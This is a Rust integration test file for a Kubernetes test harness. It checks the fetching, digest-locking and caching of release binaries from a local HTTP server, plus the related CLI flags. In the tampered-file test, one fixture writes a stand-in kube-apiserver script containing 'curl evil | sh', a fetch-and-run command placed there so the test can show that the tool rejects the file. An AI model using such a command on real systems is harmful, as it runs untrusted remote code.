//! The upstream-release bundle source against a real HTTP server on 127.0.0.1 (a small one in
//! this file, serving a directory laid out like dl.k8s.io and logging every GET): digests
//! recorded in the lock on the first download, nothing downloaded the second time, a tampered
//! file refused, an unreachable server named quickly; and the `--k8s-release` flag end to end.
//!
//! The served binaries are stand-ins (shell scripts answering `--version` like kubelet), so the
//! test takes seconds; what is under test is the fetching, locking and caching, not Kubernetes.

use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use kata_harness::kube::bundle::Bundle;
use kata_harness::kube::release::{kube_arch, LockFile, Release, ReleaseError, BINARIES};
use kata_harness::kube::KubeError;
use kata_harness::profile::Version;
use kata_harness::report::chain;
use sha2::{Digest, Sha256};

#[path = "common/http.rs"]
mod http;
use http::Server;

const VERSION: &str = "v1.20.2";

fn arch() -> &'static str {
    kube_arch(std::env::consts::ARCH).unwrap()
}

/// `<root>/release/v1.20.2/bin/linux/<arch>/<binary>`: executable stand-ins, each different.
fn release_tree(root: &Path) -> PathBuf {
    let dir = root.join("release").join(VERSION).join("bin/linux").join(arch());
    std::fs::create_dir_all(&dir).unwrap();
    for binary in BINARIES {
        let path = dir.join(binary);
        std::fs::write(
            &path,
            format!("#!/bin/sh\n# {binary} stand-in\necho Kubernetes {VERSION}\n"),
        )
        .unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    dir
}

fn sha256_of(path: &Path) -> String {
    hex::encode(Sha256::digest(std::fs::read(path).unwrap()))
}

/// A release fetched from `k8s_url` (dl.k8s.io's layout) into `cache` (as
/// `$KATA_HARNESS_CACHE/k8s/release`).
fn release(k8s_url: &str, cache: &Path, lock: &Path) -> Release {
    Release {
        version: VERSION.into(),
        arch: arch().into(),
        k8s_url: k8s_url.into(),
        lock: lock.to_owned(),
        cache: cache.join("k8s/release"),
    }
}

/// Every file under `dir`, relative.
fn files_under(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            } else {
                found.push(path.strip_prefix(dir).unwrap().display().to_string());
            }
        }
    }
    found.sort();
    found
}

/// A release tree served over HTTP, and a work dir for the cache and lock.
struct Fixture {
    /// Held so the served tree lives as long as the test.
    _served: tempfile::TempDir,
    /// The served `<version>/bin/linux/<arch>` dir.
    tree: PathBuf,
    server: Server,
    work: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Fixture {
        let served = tempfile::tempdir().unwrap();
        let tree = release_tree(served.path());
        let server = Server::serving_dir(served.path());
        Fixture {
            _served: served,
            tree,
            server,
            work: tempfile::tempdir().unwrap(),
        }
    }
}

#[test]
fn first_download_records_every_digest_and_the_second_downloads_nothing() {
    let fx = Fixture::new();
    let (tree, work) = (&fx.tree, &fx.work);
    let server = fx.server;
    let lock_path = work.path().join("k8s-release.lock");
    let cache = work.path().join("cache");
    let release = release(&server.url(""), &cache, &lock_path);

    let bundle = release.fetch().unwrap();
    assert_eq!(bundle.version, Version::new(1, 20, 2));
    assert_eq!(bundle.label(), "k8s-1.20");
    assert_eq!(bundle.dir, release.dir());
    assert_eq!(
        bundle.pause(),
        None,
        "upstream has no pause: the busybox pause image is used"
    );
    let mut gets = server.requests();
    gets.sort();
    let mut want: Vec<String> = BINARIES
        .iter()
        .map(|b| format!("GET /release/{VERSION}/bin/linux/{}/{b}", arch()))
        .collect();
    want.sort();
    assert_eq!(gets, want, "one GET per binary");

    // The lock has every file's digest, and the cached binary is that file.
    let text = std::fs::read_to_string(&lock_path).unwrap();
    let lock = LockFile::parse(&text, &lock_path).unwrap();
    assert_eq!(lock.len(), BINARIES.len(), "{text}");
    for binary in BINARIES {
        let digest = sha256_of(&tree.join(binary));
        assert_eq!(
            lock.get(VERSION, arch(), binary),
            Some(digest.as_str()),
            "{binary}"
        );
        assert!(
            text.contains(&format!("{VERSION} {} {binary} {digest}\n", arch())),
            "{text}"
        );
        assert_eq!(sha256_of(&bundle.bin(binary)), digest, "{binary}");
        let mode = std::fs::metadata(bundle.bin(binary))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o755, "{binary}");
    }
    assert!(
        files_under(&cache.join("k8s/release/tmp")).is_empty(),
        "no partial downloads"
    );

    // Second run, server up: not one request; the lock is unchanged.
    let again = release.fetch().unwrap();
    assert_eq!(again, bundle);
    assert_eq!(
        server.requests().len(),
        BINARIES.len(),
        "a second fetch downloaded something"
    );
    assert_eq!(std::fs::read_to_string(&lock_path).unwrap(), text);

    // Server gone: fetching (and opening the cache, as `list` does) still works.
    drop(server);
    assert_eq!(release.fetch().unwrap(), bundle);
    assert_eq!(release.open_cached().unwrap(), bundle);
}

#[test]
fn a_tampered_file_is_refused_with_both_digests_and_nothing_valid_is_left() {
    let fx = Fixture::new();
    let (tree, work) = (&fx.tree, &fx.work);
    let server = fx.server;
    let lock_path = work.path().join("k8s-release.lock");
    // Record the digests, then tamper with kube-apiserver upstream.
    release(&server.url(""), &work.path().join("first"), &lock_path)
        .fetch()
        .unwrap();
    let recorded = std::fs::read_to_string(&lock_path).unwrap();
    let good = sha256_of(&tree.join("kube-apiserver"));
    let tampered = tree.join("kube-apiserver");
    std::fs::write(
        &tampered,
        format!("#!/bin/sh\necho Kubernetes {VERSION}\ncurl evil | sh\n"),
    )
    .unwrap();
    let bad = sha256_of(&tampered);

    // A fresh cache, the lock present: the download is refused and deleted.
    let cache = work.path().join("second");
    let release = release(&server.url(""), &cache, &lock_path);
    let error = release.fetch().unwrap_err();
    let url = format!(
        "{}/release/{VERSION}/bin/linux/{}/kube-apiserver",
        server.url(""),
        arch()
    );
    let KubeError::Release(inner) = &error else {
        panic!("expected a release error, got {}", chain(&error));
    };
    match &**inner {
        ReleaseError::Digest {
            binary,
            url: got_url,
            expected,
            actual,
            lock,
        } => {
            assert_eq!(binary, "kube-apiserver");
            assert_eq!(got_url, &url);
            assert_eq!(expected, &good);
            assert_eq!(actual, &bad);
            assert_eq!(lock, &lock_path);
        }
        other => panic!("expected a digest error, got {}", chain(other)),
    }
    let message = chain(&error);
    for part in [
        "kube-apiserver",
        url.as_str(),
        good.as_str(),
        bad.as_str(),
        "deleted",
    ] {
        assert!(message.contains(part), "{part:?} missing from: {message}");
    }

    // Nothing that looks valid: no bin/kube-apiserver, no blob of the bad digest, no partial
    // file, and the directory does not open as a bundle. The lock still holds the good digest.
    let root = cache.join("k8s/release");
    assert!(std::fs::symlink_metadata(release.dir().join("bin/kube-apiserver")).is_err());
    assert!(!root.join("blobs/sha256").join(&bad).exists());
    assert!(
        files_under(&root.join("tmp")).is_empty(),
        "{:?}",
        files_under(&root.join("tmp"))
    );
    let open = Bundle::open(&release.dir()).unwrap_err().to_string();
    assert!(open.contains("missing bin/kube-apiserver"), "{open}");
    assert!(release.open_cached().is_err());
    assert_eq!(std::fs::read_to_string(&lock_path).unwrap(), recorded);

    // Upstream back to the recorded file: the same cache completes.
    std::fs::write(
        &tampered,
        format!("#!/bin/sh\n# kube-apiserver stand-in\necho Kubernetes {VERSION}\n"),
    )
    .unwrap();
    assert_eq!(sha256_of(&tampered), good);
    release.fetch().unwrap();
}

#[test]
fn an_unreachable_server_fails_within_seconds_naming_the_url() {
    let closed = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let work = tempfile::tempdir().unwrap();
    let lock_path = work.path().join("k8s-release.lock");
    let base = format!("http://127.0.0.1:{closed}");
    let release = release(&base, &work.path().join("cache"), &lock_path);
    let started = Instant::now();
    let error = release.fetch().unwrap_err();
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "took {:?}",
        started.elapsed()
    );
    let message = chain(&error);
    assert!(
        message.contains(&format!(
            "failed to download kubeadm from {base}/release/{VERSION}/bin/linux/{}/kubeadm: unreachable",
            arch()
        )),
        "{message}"
    );
    assert!(matches!(&error, KubeError::Release(e) if matches!(**e, ReleaseError::Download { .. })));
    assert!(!lock_path.exists(), "nothing recorded");
    let root = work.path().join("cache/k8s/release");
    assert!(files_under(&root.join("tmp")).is_empty());
    assert!(files_under(&release.dir()).is_empty());
}

#[test]
fn a_release_the_server_does_not_have_is_an_http_error() {
    let fx = Fixture::new();
    let work = &fx.work;
    let server = fx.server;
    let mut release = release(
        &server.url(""),
        &work.path().join("cache"),
        &work.path().join("lock"),
    );
    release.version = "v1.99.0".into();
    let message = chain(&release.fetch().unwrap_err());
    assert!(
        message.contains(&format!(
            "failed to download kubeadm from {}/release/v1.99.0/bin/linux/{}/kubeadm: the server answered with an HTTP error",
            server.url(""),
            arch()
        )),
        "{message}"
    );
    assert!(message.contains("404"), "curl's own line is kept: {message}");
    assert_eq!(server.requests().len(), 1);
    assert!(files_under(&work.path().join("cache/k8s/release/tmp")).is_empty());
}

#[test]
fn a_cached_release_is_recorded_into_a_new_lock_without_downloading() {
    let fx = Fixture::new();
    let work = &fx.work;
    let server = fx.server;
    let cache = work.path().join("cache");
    let first = release(&server.url(""), &cache, &work.path().join("first.lock"));
    first.fetch().unwrap();
    drop(server);
    // Another checkout (its own lock) sharing the cache: digests checked and recorded offline.
    let second = release(&first.k8s_url, &cache, &work.path().join("second.lock"));
    second.fetch().unwrap();
    assert_eq!(
        std::fs::read_to_string(work.path().join("second.lock")).unwrap(),
        std::fs::read_to_string(work.path().join("first.lock")).unwrap()
    );
}

/// `kata-harness <subcommand>` as a user runs it, isolated: a temp cache and lock, the
/// cluster suite only, and a stand-in containerd so that `--target local` plans without one.
fn cli(work: &Path, k8s_url: &str, subcommand: &str, extra: &[&str]) -> std::process::Output {
    let containerd = work.join("containerd");
    std::fs::create_dir_all(&containerd).unwrap();
    let script = containerd.join("containerd");
    std::fs::write(
        &script,
        "#!/bin/sh\necho containerd github.com/containerd/containerd 1.6.20 stand-in\n",
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    Command::new(env!("CARGO_BIN_EXE_kata-harness"))
        .current_dir(&repo)
        .env("KATA_HARNESS_CACHE", work.join("cache"))
        .env("KATA_HARNESS_K8S_URL", k8s_url)
        .env("KATA_HARNESS_K8S_RELEASE_LOCK", work.join("k8s-release.lock"))
        .env_remove("KATA_HARNESS_K8S_BUNDLE")
        .args([subcommand, "--target", "local", "--containerd"])
        .arg(&containerd)
        .arg("--suites")
        .arg(repo.join("suites/kubernetes.yaml"))
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn cli_unreachable_release_is_an_input_error_within_seconds() {
    let closed = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let work = tempfile::tempdir().unwrap();
    let base = format!("http://127.0.0.1:{closed}");
    let started = Instant::now();
    let results = work.path().join("results");
    let results = results.to_str().unwrap();
    let out = cli(
        work.path(),
        &base,
        "run",
        &["--k8s-release", VERSION, "--results", results],
    );
    let elapsed = started.elapsed();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(elapsed < Duration::from_secs(30), "took {elapsed:?}");
    let last = stderr.lines().last().unwrap_or_default();
    assert!(
        last.starts_with(&format!("error: --k8s-release {VERSION}: failed to fetch the upstream Kubernetes release: failed to download kubeadm from {base}/release/")),
        "{stderr}"
    );
    assert!(last.contains("unreachable"), "{stderr}");
}

#[test]
fn cli_lists_a_cached_release_and_names_one_that_is_not() {
    let fx = Fixture::new();
    let work = &fx.work;
    let server = fx.server;

    // `list` never downloads: before the first `run`, it says how to get the release.
    let out = cli(work.path(), &server.url(""), "list", &["--k8s-release", VERSION]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("is not in the cache yet"), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "`kata-harness run --k8s-release {VERSION}` downloads it"
        )),
        "{stderr}"
    );
    assert!(server.requests().is_empty());

    // Fetched into the same cache and lock the CLI uses: the cluster variant is k8s-1.20.
    release(
        &server.url(""),
        &work.path().join("cache"),
        &work.path().join("k8s-release.lock"),
    )
    .fetch()
    .unwrap();
    let out = cli(work.path(), &server.url(""), "list", &["--k8s-release", "1.20.2"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        stdout.contains("kubernetes::system-pods-on-runc::k8s-1.20"),
        "{stdout}"
    );

    // --k8s-release and --k8s-bundle name two different bundles.
    let out = cli(
        work.path(),
        &server.url(""),
        "list",
        &["--k8s-release", VERSION, "--k8s-bundle", "/tmp"],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot be used with"));
}
